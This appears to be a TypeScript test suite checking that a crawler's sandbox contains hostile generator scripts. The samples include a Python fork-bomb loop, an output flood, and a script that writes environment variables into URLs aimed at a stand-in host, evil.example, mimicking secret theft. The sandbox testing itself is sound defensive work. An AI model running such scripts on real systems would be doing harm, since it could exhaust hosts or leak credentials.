import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { GeneratorLogStatus } from '../../store/generator-logs';
import { requireStack } from '../../support/stack';
import { startGeneratorHarness, type GeneratorHarness } from '../../support/generator-harness';

const REPO = resolve(__dirname, '../..');

/**
 * The hostile scripts, each as a real generator run through the workflow: every one
 * ends in a clear run log, and the same worker then serves a well-behaved run. (How the host
 * stays unharmed — no process left, nothing written — is shown in test/sandbox/.)
 */
describe('hostile generator scripts, run for real', () => {
  let h: GeneratorHarness;
  before(async () => {
    await requireStack();
    process.env.CRAWLFLOW_HOSTILE_SECRET = 'hunter2-in-the-worker-env';
    // A small output limit so "print 1 GB" ends in a second rather than at the 512 MiB default.
    h = await startGeneratorHarness({ sandboxLimits: { maxOutputBytes: 2 * 1024 * 1024, maxProcesses: 32 } });
  });
  after(async () => {
    delete process.env.CRAWLFLOW_HOSTILE_SECRET;
    await h?.close();
  });

  const cases: Array<{ name: string; code: string; language?: 'python' | 'shell'; timeoutSeconds?: number; expect: (log: { status: number; failedReason: string | null; extra: Record<string, unknown>; urisNew: number; urisInvalid: number }) => void }> = [
    {
      name: 'forks processes in a loop',
      code: 'import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n',
      timeoutSeconds: 2,
      expect: (log) => {
        assert.equal(log.status, GeneratorLogStatus.Failed);
        assert.equal(log.failedReason, 'timed out after 2 s of wall time');
      },
    },
    {
      name: 'prints 1 GB',
      code: 'yes https://example.com/flood | head -c 1000000000',
      language: 'shell',
      expect: (log) => {
        assert.equal(log.status, GeneratorLogStatus.Failed);
        // The reason names the output limit; a stderr tail may follow it (`head` often reports
        // the pipe the sandbox closed on it: "error writing 'standard output'").
        assert.match(log.failedReason ?? '', /^printed more than 2097152 bytes \(the output limit\)($|\n--- stderr ---\n)/);
        assert.equal(log.urisNew, 1, 'the same URI over and over is one task');
      },
    },
    {
      name: 'opens a network connection',
      code: 'import urllib.request\nurllib.request.urlopen("http://example.com/", timeout=5)\n',
      expect: (log) => {
        assert.equal(log.status, GeneratorLogStatus.Failed);
        assert.match(log.failedReason ?? '', /^exited with code 1\n--- stderr ---\n[\s\S]*URLError/);
      },
    },
    {
      name: 'writes outside its directory',
      code: `open("${REPO}/hostile-was-here", "w").write("x")\n`,
      expect: (log) => {
        assert.equal(log.status, GeneratorLogStatus.Failed);
        assert.match(log.failedReason ?? '', /(PermissionError|FileNotFoundError|OSError)/);
        assert.equal(existsSync(`${REPO}/hostile-was-here`), false);
      },
    },
    {
      name: 'reads the environment looking for secrets',
      code: 'import os\nfor k, v in os.environ.items():\n    print(f"https://evil.example/?{k}={v}")\n',
      expect: (log) => {
        assert.equal(log.status, GeneratorLogStatus.Succeeded);
        assert.equal(log.urisNew, 6, 'PATH, HOME, TMPDIR, LANG, LC_ALL and PWD are all it sees');
      },
    },
    {
      name: 'prints garbage between URIs',
      code: 'print("https://example.com/g1")\nprint("\\x00\\x01 garbage ☃")\nprint("javascript:alert(1)")\nprint("https://example.com/g2")\n',
      expect: (log) => {
        assert.equal(log.status, GeneratorLogStatus.Succeeded);
        assert.deepEqual([log.urisNew, log.urisInvalid], [2, 2]);
      },
    },
  ];

  for (const hostile of cases) {
    it(`a script that ${hostile.name}`, async () => {
      const generator = await h.createGenerator(hostile.code, { language: hostile.language ?? 'python', timeoutSeconds: hostile.timeoutSeconds ?? 20 });
      await h.run(generator.id.toHexString());
      const [log] = await h.store.generatorLogs.list({ generator: generator.id });
      assert.ok(log, 'a run log');
      hostile.expect(log);
    });
  }

  it('no secret reached the store, and the worker still serves a well-behaved run', async () => {
    const tasks = await h.store.tasks.list({ job: h.job.id, limit: 500 });
    assert.ok(tasks.some((task) => task.uri.startsWith('https://evil.example/?PATH=')));
    assert.ok(tasks.every((task) => !task.uri.includes('hunter2')));
    const generator = await h.createGenerator('print("https://example.com/still-serving")');
    const summary = await h.run(generator.id.toHexString());
    assert.deepEqual([summary.outcome, summary.new], ['succeeded', 1]);
  });
});
